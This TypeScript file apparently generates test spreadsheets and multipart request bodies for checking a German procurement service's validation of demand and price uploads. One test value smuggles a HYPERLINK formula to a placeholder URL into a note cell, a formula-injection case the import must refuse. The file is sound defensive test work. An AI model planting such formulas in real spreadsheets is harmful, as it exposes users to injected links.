  {
    const cat: Category = "eine-schlechte-zeile";
    const codes = context.itemCodes;
    const good = (n: number): DemandLineExpect[] =>
      Array.from({ length: n }, (_, i) => ({
        code: codes[i % codes.length]!,
        quantity: 10 + i,
        costCentre: `M-${i}`,
      }));
    const bad: [string, Record<string, CellXml>, RegExp][] = [
      ["negative", { F: cell.number(-3) }, M.negative],
      ["fraction", { F: cell.number(0.5) }, M.notWhole],
      ["word", { F: cell.text("viele") }, M.notNumber],
      ["unknown-code", { A: cell.text("Z999") }, M.unknownCode],
      ["missing-code", { A: cell.empty() }, M.missingCode],
      ["cost-centre-too-long", { G: cell.text("K".repeat(61)) }, M.textTooLong],
      [
        "formula-in-note",
        { K: cell.formula('HYPERLINK("http://x")', "x", "str") },
        M.formulaInText,
      ],
      ["nan", { F: cell.number("NaN") }, M.notNumber],
      ["duplicate-of-earlier-row", { G: cell.text("M-0"), A: cell.text(codes[0]!) }, M.duplicate],
      ["date", { G: cell.bool(true) }, M.notText],
    ];
    for (const [name, override, message] of bad) {
      const lines = good(60);
      const cells = demandCells(lines);
      // The 30th free row gets the bad value(s).
      const row = firstFreeRow + 30;
      for (const [column, value] of Object.entries(override)) cells[`${column}${row}`] = value;
      add(
        cat,
        `demand-row-${row}-${name}`,
        demandFile(cells),
        forDemand(refuse(new RegExp(`Zeile ${row}, Spalte „[^“]+“: .*${message.source}`))),
      );
    }
    const priceBad: [string, CellXml, RegExp][] = [
      ["negative", cell.number(-0.01), M.negative],
      ["word", cell.text("n. a."), M.notNumber],
      ["missing", cell.empty(), M.missingPrice],
      ["rising", cell.number(99_999), M.rising],
      ["five-decimals", cell.number(1.23456), M.decimals],
    ];
    for (const [name, value, message] of priceBad) {
      const row = FIRST_ROW + context.lots[0]!.bands[0]! + 1;
      badPrice(
        cat,
        `price-middle-${name}`,
        oneBadPrice(value, 1, 1),
        new RegExp(`Zeile ${row}, Spalte „G \\(Stückpreis netto in €\\)“: .*${message.source}`),
      );
    }
    // The same files with the bad row fixed import exactly.
    validDemand(cat, "demand-60-rows-fixed", good(60));
    validPrice(cat, "price-all-rows-fixed", goodPrices(110_000));
  }

  // ── Valid files written in other ways ──
  {
    const cat: Category = "gueltig";
    const code = itemRows[0]!.code;
    validDemand(cat, "unchanged-template-is-empty-demand", []);
    validDemand(
      cat,
      "all-items-one-line",
      itemRows.map((r, i) => ({ code: r.code, quantity: i + 1 })),
    );
    validDemand(cat, "all-fields", [
      {
        code,
        quantity: 12,
        costCentre: "KST 4711",
        product: "11.1.01",
        ledgerAccount: "54110000",
        deliveryAddress: "Rathaus\nMarktplatz 1",
        note: "Bitte an das Bauamt",
      },
    ]);
    validDemand(
      cat,
      "cost-centre-typed-as-number",
      [{ code, quantity: 1 }],
      { [`G${FIRST_ROW}`]: cell.number(4711) },
      [{ code, quantity: 1, costCentre: "4711" }],
    );
    validDemand(cat, "stored-uncompressed", [{ code, quantity: 9 }]);
    files.at(-1)!.bytes = demandBook
      .clone()
      .cells(DEMAND, demandCells([{ code, quantity: 9 }]))
      .bytes({}, { method: 0 });
    validDemand(cat, "max-compression", [{ code, quantity: 10 }]);
    files.at(-1)!.bytes = demandBook
      .clone()
      .cells(DEMAND, demandCells([{ code, quantity: 10 }]))
      .bytes({ level: 4 });
    validDemand(cat, "archive-comment", [{ code, quantity: 11 }]);
    files.at(-1)!.bytes = demandBook
      .clone()
      .cells(DEMAND, demandCells([{ code, quantity: 11 }]))
      .bytes({ comment: Buffer.from("Kommentar im Archiv") });
    validDemand(cat, "without-unused-parts", [{ code, quantity: 13 }], {}, undefined, (b) => {
      b.parts = b.parts.filter((p) => p.name.startsWith("xl/") && !p.name.includes("theme"));
    });
    sampled(
      fc.array(
        fc.record({
          item: fc.integer({ min: 0, max: context.itemCodes.length - 1 }),
          quantity: fc.integer({ min: 1, max: 100_000_000 }),
          costCentre: fc.string({ maxLength: 20 }).map((s) => s.trim().replace(/^'+/, "")),
        }),
        { maxLength: 25 },
      ),
      15,
      30,
    ).forEach((raw, i) => {
      // One line per item and cost centre (compared without case).
      const seen = new Set<string>();
      const lines = raw
        .map((r) => ({
          code: context.itemCodes[r.item]!,
          quantity: r.quantity,
          costCentre: r.costCentre,
        }))
        .filter((l) => {
          const key = `${l.code}|${l.costCentre.toLowerCase()}`;
          if (seen.has(key)) return false;
          seen.add(key);
          return true;
        });
      validDemand(
        cat,
        `sampled-demand-${i}`,
        lines.map((l) => (l.costCentre === "" ? { code: l.code, quantity: l.quantity } : l)),
      );
    });
    validPrice(cat, "price-only-lot-2", {
      [context.lots[1]!.number]: goodPrices(120_000)[context.lots[1]!.number]!,
    });
    validPrice(cat, "price-text-cells", goodPrices(130_000), {
      cells: Object.fromEntries(
        Object.entries(goodPrices(130_000)).map(([lot, items]) => [
          lot,
          items.map((bands) =>
            bands.map((p) =>
              cell.text(
                `${new Intl.NumberFormat("de-DE", { minimumFractionDigits: 2, maximumFractionDigits: 4 }).format(p / 10_000)} €`,
              ),
            ),
          ),
        ]),
      ),
    });
    validPrice(
      cat,
      "price-equal-bands",
      Object.fromEntries(
        context.lots.map((lot) => [
          lot.number,
          lot.bands.map((bands) => Array.from({ length: bands }, () => 33_300)),
        ]),
      ),
    );
  }

  return files;
}

function repeat(count: number, row: (i: number) => string): string {
  const parts: string[] = new Array<string>(count);
  for (let i = 0; i < count; i++) parts[i] = row(i);
  return parts.join("");
}

function copy(bytes: Uint8Array): Uint8Array<ArrayBuffer> {
  const out = new Uint8Array(bytes.length);
  out.set(bytes);
  return out;
}

// ── Multipart bodies written by hand, for the tricks that live in the request ──

export const BOUNDARY = "----BuendelkaufGrenze7MA4YWxkTrZu0gW";

/** One part: headers as written (so they can be broken) and the content. */
export type Part = { headers: string[]; content: Uint8Array | string };

export function filePart(
  field: string,
  fileName: string,
  content: Uint8Array | string,
  contentType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
): Part {
  return {
    headers: [
      `Content-Disposition: form-data; name="${field}"; filename="${fileName}"`,
      `Content-Type: ${contentType}`,
    ],
    content,
  };
}

export function fieldPart(field: string, value: string): Part {
  return { headers: [`Content-Disposition: form-data; name="${field}"`], content: value };
}

/** A multipart/form-data body; `close: false` leaves out the final boundary. */
export function multipart(parts: Part[], { close = true, boundary = BOUNDARY } = {}): Buffer {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    chunks.push(Buffer.from(`--${boundary}\r\n${part.headers.join("\r\n")}\r\n\r\n`, "utf8"));
    chunks.push(Buffer.from(part.content));
    chunks.push(Buffer.from("\r\n"));
  }
  if (close) chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

/** A body that arrives in chunks without a Content-Length, as a chunked upload does. */
export function chunked(body: Uint8Array, chunkSize = 64 * 1024): ReadableStream<Uint8Array> {
  let at = 0;
  return new ReadableStream<Uint8Array>({
    pull(controller) {
      if (at >= body.length) return controller.close();
      controller.enqueue(body.slice(at, at + chunkSize));
      at += chunkSize;
    },
  });
}

/**
 * Valid files for the request tricks: a demand template with `quantity` of the first item, and
 * a price sheet of `bidderName` with falling prices for every lot (returned with the prices).
 */
export function validUploads(context: CorpusContext) {
  const demandBook = new Book(context.demandTemplate);
  const priceBook = new Book(context.priceSheet);
  return {
    demand: (quantity: number) =>
      demandBook
        .clone()
        .cells(DEMAND, { [`F${FIRST_ROW}`]: cell.number(quantity) })
        .bytes(),
    price: (bidderName: string) => {
      const book = priceBook.clone().cells(COVER, { B9: cell.text(bidderName) });
      const prices: Record<number, number[][]> = {};
      for (const lot of context.lots) {
        prices[lot.number] = lot.bands.map((bands, i) =>
          Array.from({ length: bands }, (_, b) => 70_000 + i * 10_000 - b * 1_000),
        );
        const cells: Record<string, CellXml> = {};
        let row = FIRST_ROW;
        for (const item of prices[lot.number]!) {
          for (const price of item) cells[`G${row++}`] = cell.number(price / 10_000);
        }
        book.cells(`Los ${lot.number}`, cells);
      }
      return { bytes: book.bytes(), prices };
    },
  };
}
